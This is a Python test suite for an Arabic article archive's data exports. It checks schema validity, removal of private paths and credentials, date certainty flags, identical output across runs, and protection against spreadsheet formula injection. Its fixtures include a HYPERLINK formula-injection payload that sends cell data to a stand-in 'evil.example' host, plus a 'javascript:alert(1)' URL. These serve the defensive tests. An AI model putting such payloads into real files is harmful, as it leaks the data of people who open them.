"""Data to take away: stated keys alone, exact, harmless in a spreadsheet, the same bytes each time."""

import csv
import gzip
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from lxml import etree

from warraq.article import Article, DateSource, article_text
from warraq.article import Source as ArticleSource
from warraq.partial_date import PartialDate
from warraq.site.archive import read_archive
from warraq.site.exports import DATA_FILES, _cell, write_exports
from warraq.site.public_keys import KEYS

ROOT = Path(__file__).resolve().parents[2]
DC = "{http://purl.org/dc/elements/1.1/}"
ELEMENTS = set(
    "title creator subject description publisher contributor date type format identifier source"
    " language relation coverage rights".split()
)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"اقرأ")'
PRIVATE = "سر-لا-يخرج"
ARTICLES = (
    Article(
        title=HOSTILE,
        id="aaaa1",
        slug="one",
        date=PartialDate.parse("2021-11-07T10:20+03:00"),
        date_source=DateSource.PAGE,
        category=("الكتاب", "الورق"),
        also_in=(("الكتاب", "الخط"),),
        tags=("@SUM(1)", "ورق"),
        authors=("-2+3", "هيئة"),
        lang="ar",
        summary="ملخص ]]> & <b>\nسطر",
        rights="© الناشر",
        source=ArticleSource(
            format="html",
            file=f"/home/{PRIVATE}/raw.html",
            record=PRIVATE,
            sha256="ab" * 32,
            url=f"https://user:{PRIVATE}@old.example:8080/a?b=1",
        ),
        extra={"email": f"{PRIVATE}@example.org", "note": PRIVATE},
        body="نص فيه \ufffe و<b>وسم</b>.",
    ),
    Article(
        title="تقدير",
        id="aaaa2",
        slug="two",
        date=PartialDate.parse("2022-03"),
        date_source=DateSource.BODY,
        lang="ar",
        source=ArticleSource(format="html", file="x", sha256="x", url=f"file:///{PRIVATE}"),
        body="نص",
    ),
    Article(title="بلا تاريخ", id="aaaa3", slug="three", lang="ar", body="- قائمة"),
)


@pytest.fixture
def write(config, tmp_path):
    def written(name="output", **settings):
        made = config(**settings)
        folder = made.content / "articles"
        folder.mkdir(exist_ok=True)
        for article in ARTICLES:
            (folder / f"{article.slug}.md").write_text(article_text(article), encoding="utf-8")
        archive = read_archive(made)
        assert archive.problems == ()
        output = tmp_path / name
        write_exports(output, archive.catalogue.articles, archive.catalogue.read, made)
        return {path.name: path.read_bytes() for path in (output / "data").iterdir()}

    return written


def lines(files):
    return [json.loads(line) for line in gzip.decompress(files["articles.jsonl.gz"]).splitlines()]


def rows(files):
    text = files["articles.csv"].decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_every_file_is_written_and_named(write):
    assert {f"data/{name}" for name in write()} == {file.url for file in DATA_FILES}


def test_every_line_keeps_the_schema(write):
    files = write(SITEURL="https://example.org")
    described = json.loads(files["schema.json"])
    Draft202012Validator.check_schema(described)
    checker = Draft202012Validator(described)
    found = lines(files)
    assert len(found) == len(ARTICLES)
    for line in found:
        checker.validate(line)
    assert not checker.is_valid({**found[0], "email": "a@b"})
    assert not checker.is_valid({**found[0], "date": "last spring"})


def test_a_line_is_exact(write):
    first = {line["id"]: line for line in lines(write(SITEURL="https://example.org"))}["aaaa1"]
    text = first.pop("text")
    assert "وسم" in text
    assert "<b>" not in text
    assert first == {
        "id": "aaaa1",
        "url": "https://example.org/articles/one.html",
        "title": HOSTILE,
        "lang": "ar",
        "date": "2021-11-07T10:20+03:00",
        "date_is_estimate": False,
        "date_source": "page",
        "captured": None,
        "modified": None,
        "section": ["الكتاب", "الورق"],
        "also_in": ["الكتاب/الخط"],
        "authors": ["-2+3", "هيئة"],
        "tags": ["@SUM(1)", "ورق"],
        "series": "",
        "summary": "ملخص ]]> & <b>\nسطر",
        "words": 3,
        "rights": "© الناشر",
        "source_url": "https://old.example:8080/a?b=1",
        "source_sha256": "ab" * 32,
    }


def test_nothing_private_leaves(write):
    files = write()
    packed = gzip.decompress(files.pop("articles.jsonl.gz"))
    for data in (packed, *files.values()):
        assert PRIVATE.encode() not in data
        assert b"/home/" not in data


def test_a_date_says_how_sure_it_is(write):
    files = write()
    second = {line["id"]: line for line in lines(files)}["aaaa2"]
    assert (second["date"], second["date_is_estimate"]) == ("2022-03", True)
    assert second["source_url"] == second["source_sha256"] == ""
    dates = [date.text for date in etree.fromstring(files["oai_dc.xml"]).iter(f"{DC}date")]
    assert sorted(dates) == ["2021-11-07T10:20+03:00", "2022-03~"]


def test_a_table_opens_in_excel_and_runs_nothing(write):
    files = write()
    assert files["articles.csv"].startswith(b"\xef\xbb\xbf")
    assert files["articles.csv"].endswith(b"\r\n")
    first, *_ = [row for row in rows(files) if row["id"] == "aaaa1"]
    assert list(first) == [key.name for key in KEYS if key.in_table]
    assert first["title"] == f"'{HOSTILE}"
    assert first["authors"] == "'-2+3 | هيئة"
    assert first["section"] == "الكتاب | الورق"
    assert first["summary"] == "ملخص ]]> & <b>\nسطر"
    assert not any(re.match(r"[=+\-@\t\r\n]", cell) for row in rows(files) for cell in row.values())


@pytest.mark.parametrize("honest", ["«قال» - ثم", "a=b", "١+١", "'tis", "", "Ali's"])
def test_honest_text_stays_as_it_is_in_a_table(honest):
    assert _cell(honest) == honest


@given(st.text(st.sampled_from("'=+-@\t\r\n＝＋－＠ابab \x00\x0b")))
def test_no_cell_is_a_formula_and_none_loses_text(text):
    kept = re.sub("[\x00\x0b]", "", text)
    cell = _cell(text)
    assert not re.match("[=+\\-@\t\r\n＝＋－＠]", cell)
    undone = cell[1:] if re.match("'+[=+\\-@\t\r\n＝＋－＠]", cell) else cell
    assert undone == kept


def test_dublin_core_is_whole_whatever_the_text(write):
    root = etree.fromstring(write(SITEURL="https://example.org")["oai_dc.xml"])
    assert len(root) == len(ARTICLES)
    for record in root:
        assert record.tag == "{http://www.openarchives.org/OAI/2.0/oai_dc/}dc"
        assert {child.tag.removeprefix(DC) for child in record} <= ELEMENTS
        assert all(child.text.strip() and not len(child) for child in record)
    assert HOSTILE in [title.text for title in root.iter(f"{DC}title")]


def test_two_runs_give_the_same_bytes(write):
    assert write("one") == write("another")


@pytest.mark.parametrize(
    ("url", "public"),
    [
        ("https://old.example/a", "https://old.example/a"),
        ("https://u:p@old.example:81/a#b", "https://old.example:81/a#b"),
        ("file:///home/x", ""),
        ("javascript:alert(1)", ""),
        ("/raw/x.html", ""),
        ("https://[broken", ""),
        ("https://x:99999/", ""),
        ("", ""),
    ],
)
def test_an_address_of_the_web_alone_is_public(url, public):
    assert ArticleSource(format="html", file="x", sha256="", url=url).public_url == public


def test_every_public_key_is_documented_and_no_other():
    text = (
        (ROOT / "docs" / "data.md").read_text(encoding="utf-8").partition("## The public keys")[2]
    )
    rows = re.findall(r"^\| (`[^|]*) \|", text.partition("In the table")[0], re.MULTILINE)
    assert re.findall(r"`([a-z0-9_]+)`", " ".join(rows)) == [key.name for key in KEYS]
